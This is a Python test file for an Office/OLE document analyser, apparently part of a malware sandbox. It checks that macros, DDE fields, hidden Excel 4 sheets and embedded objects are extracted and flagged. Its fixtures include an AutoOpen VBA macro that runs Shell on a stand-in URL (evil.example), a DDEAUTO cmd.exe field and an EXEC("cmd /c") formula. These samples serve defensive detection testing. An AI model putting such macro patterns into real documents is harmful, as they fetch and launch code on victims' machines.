import base64
import struct
import zlib
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from lib.cuckoo.files.budget import Budget
from lib.cuckoo.files.office import vba
from lib.cuckoo.files.office.ole import describe_ole
from tests.files.compoundwriter import compound, vba_container, vba_project
from tests.files.reading import cuts, read, survives

SOURCE = b'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nShell "http://evil.example/a.exe"\r\nEnd Sub\r\n'


def package(name: bytes, content: bytes) -> bytes:
    body = b"\2\0" + name + b"\0C:\\" + name + b"\0" + b"\0\0\3\0" + struct.pack("<I", 4) + b"tmp\0"
    body += struct.pack("<I", len(content)) + content
    return struct.pack("<I", len(body)) + body


def record(key: int, body: bytes) -> bytes:
    return struct.pack("<HH", key, len(body)) + body


def workbook(tokens: bytes, state: int = 2) -> bytes:
    name = record(0x18, struct.pack("<HBBHHHBBBB", 0x20, 0, 1, 0, 0, 1, 0, 0, 0, 0) + b"\0\1")
    cell = struct.pack("<HHH8xHIH", 4, 27, 0, 0, 0, len(tokens)) + tokens
    size = 4 + 8 + 4 + len(name) + 4
    sheet = record(0x85, struct.pack("<IBB", size + 2, state, 1) + b"\2\0M1")
    assert len(sheet) == 4 + 10
    head = record(0x809, b"\0\6\5\0") + sheet
    head = record(0x809, b"\0\6\5\0") + record(0x85, struct.pack("<IBB", 0, state, 1) + b"\2\0M1") + name
    start = len(head)
    head = head.replace(sheet_start(state), struct.pack("<IBB", start, state, 1), 1)
    return head + record(0x809, b"\0\6\x40\0") + record(6, cell) + record(0x0A, b"")


def sheet_start(state: int) -> bytes:
    return struct.pack("<IBB", 0, state, 1)


def text_token(text: str) -> bytes:
    return bytes([0x17, len(text), 0]) + text.encode()


def formula(tokens: bytes) -> Any:
    office = read(describe_ole, compound({"Workbook": workbook(tokens)}))
    return office["excel4"][0]["formulas"]


def test_macros_of_a_document_and_what_they_do() -> None:
    office = read(describe_ole, compound({"Macros": vba_project({"M": SOURCE}), "WordDocument": bytes(40)}))

    assert office["macros"] == [
        {"stream": "Macros/VBA/M", "filename": "M.bas", "code": SOURCE.decode(), "size": len(SOURCE)}
    ]
    assert [(each["type"], each["keyword"]) for each in office["keywords"]] == [
        ("autoexec", "AutoOpen"),
        ("suspicious", "Shell"),
    ]
    assert office["urls"] == ["http://evil.example/a.exe"]


def test_long_base64_in_a_macro_is_decoded_and_typed() -> None:
    hidden = base64.b64encode(b"MZ" + bytes(range(100)))
    office = read(describe_ole, compound({"M": vba_project({"M": b'Attribute VB_Name = "' + hidden + b'"'})}))

    assert [(each["size"], each["kind"]) for each in office["decoded"]] == [(102, "dos")]


def test_a_module_that_the_project_does_not_list_is_found() -> None:
    project = vba_project({})
    project["VBA"]["hidden"] = b"\xff" * 100 + vba_container(SOURCE)  # type: ignore[index]

    office = read(describe_ole, compound({"Macros": project}))

    assert office["macros"][0]["code"] == SOURCE.decode()


def test_macros_packed_into_a_presentation_are_found() -> None:
    inner = zlib.compress(compound(vba_project({"M": SOURCE})))
    slides = b"\x10\0\x11\x10" + struct.pack("<II", len(inner) + 4, 0) + inner

    office = read(describe_ole, compound({"PowerPoint Document": slides}))

    assert [macro["code"] for macro in office["macros"]] == [SOURCE.decode()]


def test_a_packaged_file_is_described_by_its_content() -> None:
    office = read(
        describe_ole, compound({"ObjectPool": {"_1": {"\1Ole10Native": package(b"a.exe", b"#!/bin/sh\n")}}})
    )

    assert (office["objects"][0]["name"], office["objects"][0]["size"]) == ("C:\\a.exe", 10)
    assert office["objects"][0]["kind"] == "script"


def test_a_field_that_runs_a_command_is_found_in_both_encodings() -> None:
    command = "DDEAUTO c:\\\\windows\\\\cmd.exe"
    narrow = b"\x13 " + command.encode() + b"\x14"
    wide = "\x13 DDE excel\x14".encode("utf-16-le")

    office = read(describe_ole, compound({"WordDocument": bytes(100) + narrow + bytes(100) + wide}))

    assert office["dde"] == [command, "DDE excel"]


def test_formulas_of_a_hidden_macro_sheet_are_text_again() -> None:
    concat = text_token("cmd") + text_token(" /c") + b"\x08" + b"\x42\x01" + struct.pack("<H", 110)

    office = read(describe_ole, compound({"Workbook": workbook(concat)}))

    assert office["excel4"] == [
        {"name": "M1", "state": "very hidden", "formulas": ['AB5 =EXEC("cmd"&" /c")']}
    ]
    assert office["names"] == ["Auto_Open"]


def test_an_unknown_token_ends_the_formula_visibly() -> None:
    assert formula(text_token("a") + b"\xff\xff") == ['AB5 ="a" …']


def test_numbers_places_and_functions_in_formulas() -> None:
    tokens = b"\x1e\x41\0" + b"\x41" + struct.pack("<H", 111) + b"\x44" + struct.pack("<HH", 0, 1) + b"\x08"

    assert formula(tokens) == ["AB5 =CHAR(65)&B1"]


def test_a_workbook_with_a_password_is_encrypted() -> None:
    office = read(describe_ole, compound({"Workbook": record(0x809, bytes(4)) + record(0x2F, bytes(6))}))

    assert office["encrypted"]


def test_a_macro_of_50_megabytes_is_cut_and_that_is_said() -> None:
    page_of_a = struct.pack("<H", 0xB003) + b"\x02a" + struct.pack("<H", 4096 - 1 - 3)
    bomb = vba_container(SOURCE) + page_of_a * 12_800
    budget = Budget(text=1000)

    office = read(describe_ole, compound({"Macros": {"VBA": {"dir": vba_container(b""), "M": bomb}}}), budget)

    assert len(vba.decompress(bomb, 1 << 30)) == len(SOURCE) + 12_800 * 4096
    assert office["macros"][0]["code"] == (SOURCE + b"a" * 1000)[:1000].decode()
    assert office["macros"][0]["size"] == vba.MAXIMUM_SOURCE
    assert budget.notes[0] == f"the macro M is longer than {vba.MAXIMUM_SOURCE} bytes"


def test_a_long_macro_is_clipped_with_a_note() -> None:
    budget = Budget(text=30)

    office = read(describe_ole, compound({"M": vba_project({"M": SOURCE})}), budget)

    assert (office["macros"][0]["code"], office["macros"][0]["size"]) == (SOURCE[:30].decode(), len(SOURCE))
    assert budget.notes == [f"the macro M has {len(SOURCE)} characters, 30 are kept"]


def test_a_copy_from_before_the_beginning_ends_the_chunk() -> None:
    assert vba.decompress(b"\1" + struct.pack("<H", 0xB002) + b"\1\xff\xff", 100) == b""


def test_a_document_cut_or_damaged_anywhere_is_survived() -> None:
    whole = compound({"Macros": vba_project({"M": SOURCE}), "Workbook": workbook(text_token("a"))})
    for data in cuts(whole, 100):
        survives(describe_ole, data)


@given(st.binary(max_size=300), st.binary(max_size=300))
def test_any_streams_are_survived(book: bytes, text: bytes) -> None:
    survives(
        describe_ole, compound({"Workbook": workbook(book), "WordDocument": text, "\1Ole10Native": text})
    )


@given(st.binary(max_size=500))
def test_any_compressed_source_is_survived(data: bytes) -> None:
    assert len(vba.decompress(b"\1" + data, 5000)) <= 5000
